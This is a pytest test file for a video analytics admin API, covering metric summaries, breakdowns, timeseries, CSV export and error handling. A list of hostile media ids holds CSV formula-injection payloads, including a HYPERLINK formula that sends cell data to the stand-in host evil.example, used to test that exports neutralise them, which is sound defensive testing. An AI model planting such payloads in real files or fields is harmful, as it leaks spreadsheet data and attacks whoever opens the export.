"""The admin analytics API on hand-built views whose answers are derived by hand below."""

from __future__ import annotations

import csv
import io
import time
from datetime import datetime, timezone

import pytest

from analytics import rollup
from tests.conftest import admin_headers, store_view


def _iso(t: float) -> str:
    return datetime.fromtimestamp(t, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


HOUR = 3600
# Five views, an hour and a few seconds into an hour two hours ago (t0 = hh:00:05):
#   1  v1  vd_a1  DE Linux Chrome 1920x1080  startup 1.2 s, 60 s playing, one 3 s rebuffer
#   2  v1  vd_a1  FR Windows Firefox 1366x768 startup 0.8 s, 10 s playing, then paused
#   3  v2  vd_a2  DE                          viewstart then viewend: exit before start
#   4  v3  vd_a2  US                          viewstart then a fatal error: failure
#   5  v2  vd_a1  DE Linux Chrome 1920x1080  startup 2.0 s, 5 s playing, viewend
# views 5, unique viewers 3; playing 60+10+5 = 75 s; watch 75+3 = 78 s;
# startups [800, 1200, 2000]: p50 1200, p95 2000 (quantileExact: element floor(q*n));
# rebuffer % = 3/78 = 3.846; rebuffer frequency = 1 / (78/60 min) = 0.769/min;
# failure 1/5 = 20 %; exits before start 1/5 = 20 %.
LINUX = {"country": "DE", "os": "Linux", "browser": "Chrome", "device": "desktop", "screen_w": 1920, "screen_h": 1080}
VIEWS = [
    ("v-1", "vd_a1", 0, {"viewer_id": "v1", **LINUX},
     [(0, "viewstart"), (1.2, "playing"), (11.2, "heartbeat"), (21.2, "heartbeat"), (31.2, "rebuffer_start"),
      (34.2, "rebuffer_end"), (44.2, "heartbeat"), (54.2, "heartbeat"), (64.2, "ended")]),
    ("v-2", "vd_a1", 100, {"viewer_id": "v1", "country": "FR", "os": "Windows", "browser": "Firefox",
                           "device": "desktop", "screen_w": 1366, "screen_h": 768},
     [(0, "viewstart"), (0.8, "playing"), (10.8, "pause")]),
    ("v-3", "vd_a2", 200, {"viewer_id": "v2", "country": "DE"}, [(0, "viewstart"), (4, "viewend")]),
    ("v-4", "vd_a2", 300, {"viewer_id": "v3", "country": "US"},
     [(0, "viewstart"), (2, "error", {"fatal": True, "error_code": "hls_fragLoadError"})]),
    ("v-5", "vd_a1", 30, {"viewer_id": "v2", **LINUX}, [(0, "viewstart"), (2, "playing"), (7, "viewend")]),
]


@pytest.fixture
def data(server, tenant_factory, store):
    """Tenant A with the five views; tenant B reuses A's video and view ids with other numbers.
    Both show groups of any size (k_anonymity 1): small groups are test_small_groups.py's."""
    a, key_a = tenant_factory(k_anonymity=1)
    b, key_b = tenant_factory(k_anonymity=1)
    t0 = (int(time.time()) // HOUR - 2) * HOUR + 5
    since = time.time() - 1
    for view_id, video_id, offset, common, timeline in VIEWS:
        store_view(store, a.tenant_id, view_id, timeline, video_id, t0=t0 + offset, **common)
    # B: same ids, one view with a seek stall (not a rebuffer) and 20 s of playing.
    store_view(store, b.tenant_id, "v-1", [(0, "viewstart"), (1, "playing"), (6, "seeking"), (6.5, "seeked"),
                                           (8, "playing"), (23, "viewend")], "vd_a1", t0=t0, viewer_id="v1")
    rollup.fold_touched(store, since)
    return server, key_a, key_b, t0


def _get(server, key, path, **params):
    r = server.http.get(path, params=params, headers=admin_headers(key))
    assert r.status_code == 200, r.text
    return r.json()


def test_summary_matches_the_hand_derived_figures(data):
    server, key_a, key_b, t0 = data
    window = {"from": _iso(t0 - HOUR), "to": _iso(t0 + 2 * HOUR)}
    assert _get(server, key_a, "/v1/analytics/summary", **window) == {
        "views": 5, "unique_viewers": 3, "playing_time_s": 75.0, "watch_time_s": 78.0,
        "startup_time_ms_p50": 1200, "startup_time_ms_p95": 2000,
        "rebuffer_pct": round(100 * 3 / 78, 3), "rebuffer_frequency_per_min": round(1 / (78 / 60), 3),
        "playback_failure_pct": 20.0, "exits_before_start_pct": 20.0,
        "consent_mode": "opt-in", "unique_viewers_scope": "range",  # consented viewers: unique over the range
    }
    # B's view: 5 s + 15 s playing, a 2 s seek (0.5 s seeking + 1.5 s stall after it): no rebuffer.
    b = _get(server, key_b, "/v1/analytics/summary", **window)
    assert (b["views"], b["playing_time_s"], b["watch_time_s"], b["rebuffer_pct"]) == (1, 20.0, 22.0, 0.0)
    assert b["startup_time_ms_p50"] == 1000
    # A video filter, and a range that excludes everything.
    one = _get(server, key_a, "/v1/analytics/summary", video_id="vd_a2", **window)
    assert (one["views"], one["playback_failure_pct"], one["exits_before_start_pct"]) == (2, 50.0, 50.0)
    empty = _get(server, key_a, "/v1/analytics/summary", **{"from": _iso(t0 - 3 * HOUR), "to": _iso(t0 - 2 * HOUR)})
    assert empty["views"] == 0 and empty["rebuffer_pct"] is None and empty["startup_time_ms_p50"] is None


def test_breakdowns_sort_limit_and_group_the_rest(data):
    server, key_a, _, t0 = data
    window = {"from": _iso(t0 - HOUR), "to": _iso(t0 + 2 * HOUR)}
    rows = _get(server, key_a, "/v1/analytics/breakdown", dimension="country", limit=2, **window)["rows"]
    assert [(r["value"], r["views"], r["unique_viewers"], r["watch_time_s"]) for r in rows] == [
        ("DE", 3, 2, 68.0), ("FR", 1, 1, 10.0), ("other", 1, 1, 0.0)]
    assert rows[0]["exits_before_start_pct"] == round(100 / 3, 3) and rows[2]["playback_failure_pct"] == 100.0
    screens = {r["value"]: r["views"] for r in _get(server, key_a, "/v1/analytics/breakdown", dimension="screen",
                                                    **window)["rows"]}
    assert screens == {"1920-2559": 2, "1366-1919": 1, "unknown": 2}
    videos = {r["value"]: r["playing_time_s"] for r in _get(server, key_a, "/v1/analytics/breakdown",
                                                            dimension="video", **window)["rows"]}
    assert videos == {"vd_a1": 75.0, "vd_a2": 0.0}
    r = server.http.get("/v1/analytics/breakdown", params={"dimension": "browser", "format": "csv", **window},
                        headers=admin_headers(key_a))
    assert r.headers["content-type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(r.text)))
    assert {row["value"]: row["views"] for row in table} == {"unknown": "2", "Chrome": "2", "Firefox": "1"}


def test_timeseries_fill_empty_buckets_and_count_concurrent_viewers(data):
    server, key_a, _, t0 = data
    hour = t0 - 5
    series = _get(server, key_a, "/v1/analytics/timeseries", metric="views", interval="hour",
                  **{"from": _iso(hour - HOUR), "to": _iso(hour + 2 * HOUR)})
    assert [p["value"] for p in series["points"]] == [0, 5, 0]
    assert series["points"][1]["t"] == _iso(hour)
    # Active minutes: view 1 spans minutes 0-1, view 5 minute 0, view 2 minute 1, view 3
    # minute 3, view 4 minute 5.
    minutes = _get(server, key_a, "/v1/analytics/timeseries", metric="concurrent_viewers", interval="minute",
                   **{"from": _iso(hour), "to": _iso(hour + 7 * 60)})
    assert [p["value"] for p in minutes["points"]] == [2, 2, 0, 1, 0, 1, 0]
    peak = _get(server, key_a, "/v1/analytics/timeseries", metric="concurrent_viewers", interval="hour",
                **{"from": _iso(hour), "to": _iso(hour + HOUR)})
    assert [p["value"] for p in peak["points"]] == [2]
    r = server.http.get("/v1/analytics/timeseries", headers={**admin_headers(key_a), "accept": "text/csv"},
                        params={"metric": "rebuffer_pct", "interval": "hour", "from": _iso(hour), "to": _iso(hour + HOUR)})
    assert r.text.splitlines() == ["t,value", f"{_iso(hour)},{round(100 * 3 / 78, 3)}"]


def test_realtime_counts_the_last_minutes_from_raw_beacons(server, tenant_factory, store):
    tenant, key = tenant_factory(k_anonymity=1)
    if time.time() % 60 < 2:  # both views' beacons must fall in the current minute
        time.sleep(2)
    t0 = time.time() - 1
    store_view(store, tenant.tenant_id, "live-1", [(0, "viewstart"), (0.5, "playing")], "st_0123456789abcdef",
               t0=t0, viewer_id="a")
    store_view(store, tenant.tenant_id, "live-2", [(0, "viewstart")], "st_0123456789abcdef", t0=t0, viewer_id="b")
    data = _get(server, key, "/v1/analytics/realtime")
    assert data["viewers_now"] == 2 and len(data["per_minute"]) == 5
    assert data["top_videos"] == [{"video_id": "st_0123456789abcdef", "viewers": 2}]


@pytest.mark.parametrize("params, path, fragment", [
    ({"dimension": "planet"}, "$.query.dimension", "country, region, city, os, browser, device, screen, video"),
    ({"metric": "happiness"}, "$.query.metric", "views, unique_viewers"),
    ({"interval": "week"}, "$.query.interval", "minute, hour, day"),
    ({"from": "yesterday"}, "$.query.from", "ISO 8601"),
    ({"from": "2026-01-02", "to": "2026-01-01"}, "$.query.from", "before"),
    ({"from": "2024-01-01", "to": "2026-01-01"}, "$.query.from", "400 days"),
    ({"interval": "minute", "from": "2026-01-01", "to": "2026-01-10"}, "$.query.interval", "coarser"),
    ({"format": "xml"}, "$.query.format", "json, csv"),
    ({"limit": "0"}, "$.query.limit", "1 to 1000"),
])
def test_bad_parameters_answer_400_with_the_allowed_values(server, tenant_factory, params, path, fragment):
    _, key = tenant_factory()
    route = "breakdown" if "dimension" in params or "limit" in params else "timeseries"
    query = {"dimension": "country", **params} if route == "breakdown" else params
    r = server.http.get(f"/v1/analytics/{route}", params=query, headers=admin_headers(key))
    assert r.status_code == 400, r.text
    assert r.json()["detail"]["path"] == path and fragment in r.json()["detail"]["message"]


def test_analytics_need_an_admin_key(server):
    assert server.http.get("/v1/analytics/summary").status_code == 401
    assert server.http.get("/v1/analytics/summary", headers=admin_headers("wk_nope")).status_code == 401


def test_a_database_outage_answers_503_to_admins(server, tenant_factory, store):
    _, key = tenant_factory()
    store.faults.queries_fail = True
    try:
        r = server.http.get("/v1/analytics/summary", headers=admin_headers(key))
    finally:
        store.faults.queries_fail = False
    assert r.status_code == 503 and r.headers["retry-after"] == "5"
    assert r.json() == {"error": "unavailable",
                        "detail": {"path": "$", "message": "the database is unavailable; retry shortly"}}


HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1)", "+1+1", "-1-1", "\tx", "\r=1+1",
               "a\r\nb,c;=2+2", 'say "hi"', "plain"]


def test_breakdown_csv_cells_cannot_be_formulas_or_rows(server, tenant_factory, store):
    """Media ids stored before ids were checked (or through another edge) reach the CSV as
    text: a leading = + - @ tab CR gets a ' (OWASP), every text cell is quoted, so a CR, LF,
    comma or semicolon in a value stays inside its cell."""
    tenant, key = tenant_factory()
    t0 = time.time() - HOUR
    since = time.time() - 1
    for i, video_id in enumerate(HOSTILE_IDS):
        for j in range(5):  # five viewers each: no row is small enough to be folded away
            store_view(store, tenant.tenant_id, f"view-{i}-{j}", [(0, "viewstart"), (1, "playing"), (5, "viewend")],
                       video_id, t0=t0 + i, viewer_id=f"viewer-{j}")
    rollup.fold_touched(store, since)
    r = server.http.get("/v1/analytics/breakdown", headers=admin_headers(key),
                        params={"dimension": "video", "format": "csv", "limit": 100,
                                "from": _iso(t0 - HOUR), "to": _iso(t0 + HOUR)})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(r.text)))
    assert rows[0][0] == "value" and len(rows) == 1 + len(HOSTILE_IDS)  # no smuggled rows
    values = [row[0] for row in rows[1:]]
    expected = {("'" + v if v[0] in "=+-@\t\r" else v) for v in HOSTILE_IDS}
    assert set(values) == expected
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)
    assert '"a\r\nb,c;=2+2"' in r.text  # quoted whole: no new row, no cell split on , or ;
    assert all(row[1] == "5" for row in rows[1:])  # numbers stay numbers


def test_csv_cells_are_neutralised_and_numbers_kept():
    from core import csv_responses

    rows = [{"a": "=1+1", "b": -3, "c": None}, {"a": "x\ry", "b": 2.5, "c": True},
            {"a": "k;=2", "b": "-2", "c": 'say "hi"'}, {"a": "@x", "b": "\t=1", "c": "plain"}]
    text = csv_responses.table(["a", "b", "c"], rows)
    assert text == ("a,b,c\n'=1+1,-3,\n\"x\ry\",2.5,True\n\"k;=2\",'-2,\"say \"\"hi\"\"\"\n"
                    "'@x,\"'\t=1\",plain\n")
    assert list(csv.reader(io.StringIO(text)))[1:] == [["'=1+1", "-3", ""], ["x\ry", "2.5", "True"],
                                                       ["k;=2", "'-2", 'say "hi"'], ["'@x", "'\t=1", "plain"]]
